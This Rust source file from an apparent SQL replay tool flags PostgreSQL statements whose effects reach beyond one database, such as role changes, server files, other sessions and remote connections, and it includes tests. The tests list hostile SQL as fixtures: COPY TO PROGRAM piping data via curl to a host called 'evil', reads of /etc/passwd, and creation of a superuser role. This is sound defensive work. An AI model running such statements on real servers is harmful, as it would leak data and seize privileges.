//! Statements whose effects reach beyond the database they run in: roles and role membership,
//! server settings, other databases, tablespaces, the server's files and processes, replication
//! and connections to other servers.
//!
//! A replay into a database on a server the run did not start must not send these: a captured
//! `ALTER ROLE app PASSWORD '…'` would change the password of a real role, `COPY … TO PROGRAM`
//! would run a command as the server's account, `pg_terminate_backend` would end someone else's
//! session. Judged from the parse tree where the text parses. Where it does not, and inside the
//! body of a `DO` block (a string the parse tree does not open), the words decide, and doubt
//! counts as server-wide: skipping a statement shows in the report, running one that changes a
//! real role does not.

use pg_query::protobuf::ObjectType;
use pg_query::{NodeEnum, NodeRef};

use super::tree::called_function;

/// Functions acting on the server's files, processes, configuration, WAL and replication, or
/// opening connections to other servers. Advisory locks, `pg_notify` and per-database statistics
/// resets stay inside the database and are not here.
const SERVER_WIDE_FUNCTIONS: &[&str] = &[
    // The server's files.
    "pg_read_file",
    "pg_read_binary_file",
    "pg_stat_file",
    "pg_ls_dir",
    "pg_ls_logdir",
    "pg_ls_waldir",
    "pg_ls_tmpdir",
    "pg_ls_archive_statusdir",
    "pg_ls_logicalsnapdir",
    "pg_ls_logicalmapdir",
    "pg_ls_replslotdir",
    "lo_import",
    "lo_export",
    "pg_file_write",
    "pg_file_rename",
    "pg_file_unlink",
    "pg_file_sync",
    "pg_file_read",
    "pg_logdir_ls",
    // Other sessions: which backend a captured pid names cannot be known, so every call counts.
    "pg_terminate_backend",
    "pg_cancel_backend",
    "pg_log_backend_memory_contexts",
    // Configuration, logs, WAL, backups, replication.
    "pg_reload_conf",
    "pg_rotate_logfile",
    "pg_rotate_logfile_old",
    "pg_switch_wal",
    "pg_switch_xlog",
    "pg_create_restore_point",
    "pg_start_backup",
    "pg_stop_backup",
    "pg_backup_start",
    "pg_backup_stop",
    "pg_promote",
    "pg_wal_replay_pause",
    "pg_wal_replay_resume",
    "pg_create_physical_replication_slot",
    "pg_create_logical_replication_slot",
    "pg_copy_physical_replication_slot",
    "pg_copy_logical_replication_slot",
    "pg_drop_replication_slot",
    "pg_replication_slot_advance",
    "pg_replication_origin_create",
    "pg_replication_origin_drop",
    "pg_stat_reset_shared",
    "pg_stat_reset_slru",
    "pg_stat_reset_replication_slot",
    "pg_stat_statements_reset",
];

/// Functions whose name starts with this open connections to other servers (`dblink`,
/// `dblink_exec`, `dblink_connect_u`, …).
const CONNECTING_PREFIX: &str = "dblink";

fn is_server_wide_function(name: &str) -> bool {
    let lower = name.to_ascii_lowercase();
    lower.starts_with(CONNECTING_PREFIX) || SERVER_WIDE_FUNCTIONS.contains(&lower.as_str())
}

/// Objects kept in the server's shared catalogs: naming one in `GRANT`, `COMMENT`, `SECURITY
/// LABEL`, `ALTER … RENAME` or `ALTER … OWNER` changes it for every database.
fn shared_object(kind: ObjectType) -> bool {
    matches!(
        kind,
        ObjectType::ObjectDatabase
            | ObjectType::ObjectTablespace
            | ObjectType::ObjectRole
            | ObjectType::ObjectSubscription
            | ObjectType::ObjectParameterAcl
    )
}

/// Whether a top-level statement acts beyond its database.
pub(crate) fn top_level(node: &NodeEnum) -> bool {
    match node {
        NodeEnum::CreateRoleStmt(_)
        | NodeEnum::AlterRoleStmt(_)
        | NodeEnum::AlterRoleSetStmt(_)
        | NodeEnum::DropRoleStmt(_)
        | NodeEnum::GrantRoleStmt(_)
        | NodeEnum::ReassignOwnedStmt(_)
        // Also revokes the role's privileges on databases and tablespaces.
        | NodeEnum::DropOwnedStmt(_)
        | NodeEnum::AlterSystemStmt(_)
        | NodeEnum::CreatedbStmt(_)
        | NodeEnum::AlterDatabaseStmt(_)
        | NodeEnum::AlterDatabaseSetStmt(_)
        | NodeEnum::AlterDatabaseRefreshCollStmt(_)
        | NodeEnum::DropdbStmt(_)
        | NodeEnum::CreateTableSpaceStmt(_)
        | NodeEnum::AlterTableSpaceOptionsStmt(_)
        | NodeEnum::DropTableSpaceStmt(_)
        // Subscriptions and foreign servers connect to other servers.
        | NodeEnum::CreateSubscriptionStmt(_)
        | NodeEnum::AlterSubscriptionStmt(_)
        | NodeEnum::DropSubscriptionStmt(_)
        | NodeEnum::CreateForeignServerStmt(_)
        | NodeEnum::AlterForeignServerStmt(_)
        | NodeEnum::CreateUserMappingStmt(_)
        | NodeEnum::AlterUserMappingStmt(_)
        | NodeEnum::DropUserMappingStmt(_)
        | NodeEnum::ImportForeignSchemaStmt(_)
        // Loads a shared library into the server process.
        | NodeEnum::LoadStmt(_) => true,
        // A program, or a file of the server's (STDIN and STDOUT have no file name).
        NodeEnum::CopyStmt(c) => c.is_program || !c.filename.is_empty(),
        NodeEnum::GrantStmt(g) => shared_object(g.objtype()),
        NodeEnum::CommentStmt(c) => shared_object(c.objtype()),
        NodeEnum::SecLabelStmt(s) => shared_object(s.objtype()),
        NodeEnum::RenameStmt(r) => shared_object(r.rename_type()),
        NodeEnum::AlterOwnerStmt(a) => shared_object(a.object_type()),
        _ => false,
    }
}

/// Whether a node anywhere in a statement acts beyond its database: a call of one of
/// [`SERVER_WIDE_FUNCTIONS`].
pub(crate) fn nested(node: NodeRef<'_>) -> bool {
    called_function(node).is_some_and(is_server_wide_function)
}

/// The statement a `PREPARE` or `DECLARE … CURSOR` holds: the parse tree's walk does not enter
/// it, and an `EXECUTE` or `FETCH` later runs it unseen.
pub(crate) fn held_query(node: &NodeEnum) -> Option<&NodeEnum> {
    let query = match node {
        NodeEnum::PrepareStmt(p) => p.query.as_deref(),
        NodeEnum::DeclareCursorStmt(d) => d.query.as_deref(),
        _ => None,
    };
    query.and_then(|q| q.node.as_ref())
}

/// The code of a `DO` block, which the parse tree keeps as one string.
pub(crate) fn do_body(node: &NodeEnum) -> Option<&str> {
    let NodeEnum::DoStmt(d) = node else {
        return None;
    };
    d.args.iter().find_map(|arg| match arg.node.as_ref() {
        Some(NodeEnum::DefElem(e)) if e.defname == "as" => match e.arg.as_ref()?.node.as_ref() {
            Some(NodeEnum::String(s)) => Some(s.sval.as_str()),
            _ => None,
        },
        _ => None,
    })
}

/// What `CREATE`, `ALTER` or `DROP` acts on when the command is server-wide: objects of the
/// shared catalogs, and foreign servers (connections to other servers).
const SHARED_OBJECTS: &[&str] = &[
    "ROLE",
    "USER",
    "GROUP",
    "DATABASE",
    "TABLESPACE",
    "SUBSCRIPTION",
    "SERVER",
];

/// Other word pairs that begin a server-wide command.
const COMMANDS: &[(&str, &str)] = &[
    ("ALTER", "SYSTEM"),
    ("DROP", "OWNED"),
    ("REASSIGN", "OWNED"),
    ("IMPORT", "FOREIGN"),
];

/// Judges a text by its words alone (case folded; quotes, comments and punctuation are only
/// separators, so a command built in a string and `EXECUTE`d counts too): for texts the parser
/// rejects and for the bodies of `DO` blocks. Errs towards server-wide: any `GRANT` or `REVOKE`
/// (table privileges cannot be told from role membership here), any `COPY` without `STDIN` or
/// `STDOUT`, a `LOAD` at the start, and every name of [`SERVER_WIDE_FUNCTIONS`] count.
pub(crate) fn by_words(text: &str) -> bool {
    let words: Vec<String> = text
        .split(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
        .filter(|w| !w.is_empty())
        .map(str::to_ascii_uppercase)
        .collect();
    let has = |w: &str| words.iter().any(|x| x == w);
    if words.first().is_some_and(|w| w == "LOAD") {
        return true;
    }
    if has("GRANT") || has("REVOKE") {
        return true;
    }
    if has("COPY") && (has("PROGRAM") || !(has("STDIN") || has("STDOUT"))) {
        return true;
    }
    if words.iter().any(|w| is_server_wide_function(w)) {
        return true;
    }
    words.windows(2).any(|pair| {
        let (first, next) = (pair[0].as_str(), pair[1].as_str());
        (matches!(first, "CREATE" | "ALTER" | "DROP") && SHARED_OBJECTS.contains(&next))
            || COMMANDS.contains(&(first, next))
    })
}

#[cfg(test)]
mod tests {
    use super::by_words;
    use crate::sql::analyze;

    fn server_wide(sql: &str) -> bool {
        analyze(sql).server_wide
    }

    fn judged(expected: bool, texts: &[&str]) {
        for sql in texts {
            assert_eq!(server_wide(sql), expected, "{sql}");
        }
    }

    #[test]
    fn roles_settings_databases_and_tablespaces_reach_the_server() {
        judged(
            true,
            &[
                "ALTER ROLE app PASSWORD 'x'",
                "ALTER USER app WITH PASSWORD 'x'",
                "CREATE ROLE intruder LOGIN SUPERUSER",
                "CREATE USER intruder",
                "DROP ROLE app",
                "DROP GROUP staff",
                "ALTER ROLE app SET work_mem = '1GB'",
                "ALTER ROLE ALL SET log_statement = 'none'",
                "ALTER ROLE app RENAME TO other",
                "GRANT admin TO app",
                "REVOKE admin FROM app",
                "REASSIGN OWNED BY app TO postgres",
                "DROP OWNED BY app",
                "ALTER SYSTEM SET fsync = off",
                "CREATE DATABASE copy_of_prod",
                "ALTER DATABASE shop SET search_path = x",
                "ALTER DATABASE shop OWNER TO app",
                "ALTER DATABASE shop RENAME TO old_shop",
                "DROP DATABASE shop",
                "CREATE TABLESPACE fast LOCATION '/ssd'",
                "DROP TABLESPACE fast",
                "GRANT CONNECT ON DATABASE shop TO app",
                "REVOKE ALL ON DATABASE shop FROM PUBLIC",
                "GRANT SET ON PARAMETER work_mem TO app",
                "COMMENT ON DATABASE shop IS 'x'",
                "COMMENT ON ROLE app IS 'x'",
                "CREATE SUBSCRIPTION s CONNECTION 'host=prod' PUBLICATION p",
                "CREATE SERVER prod FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'prod')",
                "CREATE USER MAPPING FOR app SERVER prod OPTIONS (user 'app')",
                "IMPORT FOREIGN SCHEMA public FROM SERVER prod INTO mirror",
                "LOAD 'auto_explain'",
            ],
        );
    }

    #[test]
    fn files_programs_and_other_sessions_reach_the_server() {
        judged(
            true,
            &[
                "COPY t TO PROGRAM 'curl -d @- evil'",
                "COPY t FROM PROGRAM 'cat /etc/passwd'",
                "COPY t FROM '/etc/passwd'",
                "COPY (SELECT 1) TO '/tmp/out'",
                "SELECT pg_read_file('/etc/passwd')",
                "SELECT pg_catalog.pg_ls_dir('.')",
                "SELECT lo_import('/etc/passwd')",
                "SELECT lo_export(42, '/tmp/x')",
                "SELECT pg_terminate_backend(pid) FROM pg_stat_activity",
                "SELECT pg_cancel_backend(1234)",
                "SELECT pg_reload_conf()",
                "SELECT pg_rotate_logfile()",
                "SELECT pg_create_logical_replication_slot('s', 'pgoutput')",
                "SELECT * FROM dblink('host=prod', 'SELECT 1') AS t(x int)",
                "SELECT dblink_exec('host=prod', 'DELETE FROM orders')",
                "WITH x AS (SELECT pg_stat_file('pg_hba.conf')) SELECT * FROM x",
                "BEGIN; ALTER ROLE app PASSWORD 'x'; COMMIT",
                "PREPARE p AS SELECT pg_read_file($1)",
                "DECLARE c CURSOR FOR SELECT pg_ls_dir('.')",
                "CREATE VIEW v AS SELECT pg_read_file('/etc/passwd')",
            ],
        );
    }

    #[test]
    fn what_stays_in_the_database_is_sent() {
        judged(
            false,
            &[
                "SELECT * FROM users WHERE role = 'admin'",
                "INSERT INTO t VALUES (1)",
                "COPY t FROM STDIN",
                "COPY t TO STDOUT",
                "GRANT SELECT ON t TO app",
                "REVOKE INSERT ON ALL TABLES IN SCHEMA public FROM app",
                "ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO app",
                "SET ROLE app",
                "SET SESSION AUTHORIZATION app",
                "RESET ROLE",
                "COMMENT ON TABLE t IS 'x'",
                "ALTER TABLE t OWNER TO app",
                "ALTER TABLE t RENAME TO u",
                "SELECT pg_advisory_lock(1)",
                "SELECT pg_notify('c', 'x')",
                "SELECT pg_stat_reset()",
                "SELECT nextval('s')",
                "CREATE TABLE t (id int)",
                "DROP TABLE t",
                "VACUUM t",
                "DO $$ BEGIN UPDATE t SET a = 1; END $$",
            ],
        );
    }

    #[test]
    fn do_blocks_are_judged_by_their_code() {
        assert!(server_wide(
            "DO $$ BEGIN EXECUTE 'ALTER ROLE app PASSWORD ''x'''; END $$"
        ));
        assert!(server_wide(
            "DO $body$ BEGIN PERFORM pg_terminate_backend(42); END $body$"
        ));
        assert!(server_wide(
            "DO LANGUAGE plpgsql 'BEGIN EXECUTE format(''CREATE ROLE %I'', ''x''); END'"
        ));
    }

    #[test]
    fn unparsable_texts_are_judged_by_their_words_erring_towards_the_server() {
        // Newer syntax, or a typo the server rejected at capture time.
        assert!(server_wide("ALTER ROLE app WITH FUTURE_OPTION 'x'"));
        assert!(server_wide("GRANT SELECT ON t TO app WITH NEWER SYNTAX"));
        assert!(server_wide("COPY t FROM '/etc/passwd' WITH (NEWER SYNTAX)"));
        assert!(server_wide("SELEKT pg_read_file('/etc/passwd')"));
        assert!(!server_wide("SELEKT * FROM users WHERE role = 'x'"));
        assert!(!server_wide("COPY t FROM STDIN WITH (NEWER SYNTAX)"));
        assert!(by_words("load 'plugin'"));
        assert!(!by_words("SELECT load FROM t"));
    }
}
